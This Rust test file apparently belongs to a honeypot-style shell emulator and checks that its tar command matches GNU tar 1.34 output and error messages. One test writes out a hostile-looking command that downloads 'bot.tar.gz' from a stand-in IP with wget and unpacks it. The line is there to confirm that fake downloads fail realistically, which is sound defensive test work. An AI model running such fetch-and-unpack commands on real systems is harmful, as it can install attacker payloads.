//! Expected outputs are GNU tar 1.34's for the same files (its `list.c` long format, its
//! error texts from `misc.c`/`buffer.c`, and gzip 1.10's as its `-z` filter).

use crate::shell::commands::testing::{run, run_status};

/// A small tree in `/tmp/d` like one an attacker unpacks: a file, a link, a subdirectory.
const TREE: &str = "cd /tmp; mkdir -p d/sub; echo hello > d/f; echo x > d/sub/g; ln -s f d/l";

#[test]
fn create_then_list() {
    let (out, status) = run_status(&format!(
        "{TREE}; tar cvf a.tar d; wc -c < a.tar; tar tf a.tar"
    ));
    assert_eq!(status, 0, "{out}");
    let names = "d/\nd/f\nd/l\nd/sub/\nd/sub/g\n";
    assert_eq!(out, format!("{names}10240\n{names}"));
    // The session clock is stopped at 2024-02-21 10:03:01 UTC.
    assert_eq!(
        run(&format!("{TREE}; tar cf a.tar d; tar tvf a.tar")),
        "drwxr-xr-x root/root         0 2024-02-21 10:03 d/\n\
         -rw-r--r-- root/root         6 2024-02-21 10:03 d/f\n\
         lrwxrwxrwx root/root         0 2024-02-21 10:03 d/l -> f\n\
         drwxr-xr-x root/root         0 2024-02-21 10:03 d/sub/\n\
         -rw-r--r-- root/root         2 2024-02-21 10:03 d/sub/g\n"
    );
    assert_eq!(
        run(&format!("{TREE}; tar cf a.tar d; tar -tf a.tar d/sub")),
        "d/sub/\nd/sub/g\n"
    );
}

#[test]
fn gzip_round_trip_and_extract() {
    let out = run(&format!(
        "{TREE}; chmod 750 d/sub; tar czf a.tgz d; rm -r d; gzip -l a.tgz | tail -1 | \
         awk '{{print $2, $4}}'; tar xzvf a.tgz; cat d/f; readlink d/l; ls -ld d/sub | cut -c1-10"
    ));
    // gzip -l shows the name from the .tgz suffix and the 20-block record.
    assert_eq!(
        out,
        "10240 a.tar\nd/\nd/f\nd/l\nd/sub/\nd/sub/g\nhello\nf\ndrwxr-x---\n"
    );
    // Listing needs no -z: tar recognises gzip by the suffix and by the magic bytes.
    assert_eq!(
        run(&format!(
            "{TREE}; tar czf a.tgz d; cp a.tgz plain; tar tf plain | head -1; zcat a.tgz | tar t | tail -1"
        )),
        "d/\nd/sub/g\n"
    );
    assert_eq!(
        run(&format!(
            "{TREE}; tar cf a.tar d; mkdir out; tar xf a.tar -C out; cat out/d/sub/g; tar -xOf a.tar d/f"
        )),
        "x\nhello\n"
    );
    assert_eq!(
        run(&format!(
            "{TREE}; tar cf a.tar d; mkdir o2; tar --extract --file=a.tar --directory o2 --strip-components=1; ls o2"
        )),
        "f\nl\nsub\n"
    );
}

#[test]
fn fake_downloads_fail_like_gzip_and_tar() {
    let expected = "\ngzip: stdin: not in gzip format\ntar: Child returned status 1\n\
                    tar: Error is not recoverable: exiting now\n";
    assert_eq!(
        run_status("cd /tmp; head -c 3000 /bin/ls > x.tar.gz; tar xzf x.tar.gz"),
        (expected.to_owned(), 2)
    );
    assert_eq!(
        run_status("cd /tmp; head -c 3000 /bin/ls > x.tar.gz; tar -xvf x.tar.gz"),
        (expected.to_owned(), 2)
    );
    let (out, status) =
        run_status("cd /tmp; wget -q http://198.51.100.7/bot.tar.gz; tar zxvf bot.tar.gz");
    assert_eq!(status, 2);
    assert!(out.ends_with(expected), "{out}");
    assert_eq!(
        run_status("cd /tmp; head -c 3000 /bin/ls > g.bin; tar tf g.bin"),
        (
            "tar: This does not look like a tar archive\ntar: Skipping to next header\n\
             tar: Exiting with failure status due to previous errors\n"
                .to_owned(),
            2
        )
    );
    assert_eq!(
        run_status("echo hi | tar tf -"),
        (
            "tar: This does not look like a tar archive\n\
             tar: Exiting with failure status due to previous errors\n"
                .to_owned(),
            2
        )
    );
}

#[test]
fn errors_like_gnu_tar() {
    assert_eq!(
        run_status("tar xf nope.tar"),
        (
            "tar: nope.tar: Cannot open: No such file or directory\n\
             tar: Error is not recoverable: exiting now\n"
                .to_owned(),
            2
        )
    );
    assert_eq!(
        run_status(&format!(
            "{TREE}; tar cvf a.tar d/f /nonexist; tar tf a.tar"
        )),
        (
            "d/f\ntar: Removing leading `/' from member names\n\
             tar: /nonexist: Cannot stat: No such file or directory\n\
             tar: Exiting with failure status due to previous errors\nd/f\n"
                .to_owned(),
            0
        )
    );
    assert_eq!(
        run_status(&format!("{TREE}; tar cf b.tar /tmp/d/f; tar tf b.tar")).0,
        "tar: Removing leading `/' from member names\ntmp/d/f\n"
    );
    assert_eq!(
        run_status(&format!("{TREE}; tar cf a.tar d; tar xf a.tar nothere")),
        (
            "tar: nothere: Not found in archive\n\
             tar: Exiting with failure status due to previous errors\n"
                .to_owned(),
            2
        )
    );
    assert_eq!(
        run_status(&format!(
            "{TREE}; tar cf a.tar d; head -c 1500 a.tar > tr.tar; tar tf tr.tar"
        )),
        (
            "d/\nd/f\ntar: Unexpected EOF in archive\ntar: Error is not recoverable: exiting now\n"
                .to_owned(),
            2
        )
    );
    assert_eq!(
        run_status(&format!("{TREE}; tar cf a.tar d; tar xf a.tar -C /nodir")),
        (
            "tar: /nodir: Cannot open: No such file or directory\n\
             tar: Error is not recoverable: exiting now\n"
                .to_owned(),
            2
        )
    );
    let try_line = "Try 'tar --help' or 'tar --usage' for more information.\n";
    assert_eq!(
        run_status("tar"),
        (
            format!(
                "tar: You must specify one of the '-Acdtrux', '--delete' or '--test-label' options\n{try_line}"
            ),
            2
        )
    );
    assert_eq!(
        run_status("tar cf e.tar"),
        (
            format!("tar: Cowardly refusing to create an empty archive\n{try_line}"),
            2
        )
    );
    assert_eq!(
        run_status("tar cx"),
        (
            format!(
                "tar: You may not specify more than one '-Acdtrux', '--delete' or  '--test-label' option\n{try_line}"
            ),
            2
        )
    );
    assert_eq!(
        run_status("tar -y"),
        (format!("tar: invalid option -- 'y'\n{try_line}"), 2)
    );
    assert_eq!(
        run_status("tar --foo"),
        (format!("tar: unrecognized option '--foo'\n{try_line}"), 2)
    );
    assert_eq!(
        run_status("tar xf"),
        (
            format!("tar: option requires an argument -- 'f'\n{try_line}"),
            2
        )
    );
    // The archive is not put into itself.
    assert_eq!(
        run(&format!("{TREE}; cd d; tar cf in.tar .; tar tf in.tar")),
        "tar: ./in.tar: file is the archive; not dumped\n./\n./f\n./l\n./sub/\n./sub/g\n"
    );
}

#[test]
fn help_and_version() {
    assert_eq!(
        run("tar --version"),
        "tar (GNU tar) 1.34\nCopyright (C) 2021 Free Software Foundation, Inc.\n\
         License GPLv3+: GNU GPL version 3 or later <https://gnu.org/licenses/gpl.html>.\n\
         This is free software: you are free to change and redistribute it.\n\
         There is NO WARRANTY, to the extent permitted by law.\n\n\
         Written by John Gilmore and Jay Fenlason.\n"
    );
    let help = run("tar --help");
    assert!(help.starts_with("Usage: tar [OPTION...] [FILE]...\nGNU 'tar' saves many files together into a single tape or disk archive, and can\n"));
    assert!(help.ends_with("*This* tar defaults to:\n--format=gnu -f- -b20 --quoting-style=escape --rmt-command=/usr/sbin/rmt\n--rsh-command=/usr/bin/rsh\n"));
    let usage = run("tar --usage");
    assert!(usage.starts_with(
        "Usage: tar [-AcdrtuxGnSkUWOmpsMBiajJzZhPlRvwo?] [-g FILE] [-C DIR] [-T FILE]\n"
    ));
    assert!(usage.ends_with(" [--usage]\n            [--version] [FILE]...\n"));
}

/// Runs `line` as root with standard output on an 80-column terminal.
fn run_on_terminal(line: &str) -> String {
    let shell = crate::shell::commands::testing::shell();
    let mut state = crate::shell::commands::testing::session("root");
    let mut overlay = shell.scratch_overlay("root");
    let outcome = shell.run(
        &mut state,
        &mut overlay,
        crate::shell::Terminal::Columns(80),
        line,
    );
    String::from_utf8_lossy(&outcome.output).into_owned()
}

#[test]
fn no_archive_to_a_terminal() {
    assert_eq!(
        run_on_terminal("cd /tmp; echo a > f; tar cz f"),
        "tar: Refusing to write archive contents to terminal (missing -f option?)\n\
         tar: Error is not recoverable: exiting now\n"
    );
    assert_eq!(
        run_on_terminal("tar xz"),
        "tar: Refusing to read archive contents from terminal (missing -f option?)\n\
         tar: Error is not recoverable: exiting now\n"
    );
}

#[test]
fn archiving_the_whole_disk_is_bounded() {
    let started = std::time::Instant::now();
    let (out, status) = run_status("tar czf /tmp/all.tgz / 2>&1 | tail -2; ls /tmp/all.tgz");
    assert_eq!(status, 0, "{out}");
    assert!(
        out.ends_with(
            "tar: /tmp/all.tgz: Cannot write: No space left on device\n\
             tar: Error is not recoverable: exiting now\n/tmp/all.tgz\n"
        ),
        "{out}"
    );
    assert!(started.elapsed().as_secs() < 60);
}

use proptest::strategy::Strategy as _;

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(48))]
    /// Attackers type anything: no argument soup makes `tar` panic.
    #[test]
    fn argument_soup_never_panics(
        words in proptest::collection::vec(
            proptest::prop_oneof![
                proptest::sample::select(vec!["-c", "-x", "-t", "-f", "-z", "-v", "-C", "/tmp", "/etc/hosts", "-", "xzvf", "--strip-components", "-O", "a.tgz", "--"]).prop_map(str::to_owned),
                "[ -~]{0,12}",
            ],
            0..6,
        ),
        which in 0usize..1,
    ) {
        let command = ["tar"][which];
        let line = format!("{command} {}", words.iter().map(|w| format!("'{}'", w.replace('\'', ""))).collect::<Vec<_>>().join(" "));
        let (_, status) = run_status(&line);
        proptest::prop_assert!((0..=255).contains(&status));
    }
}
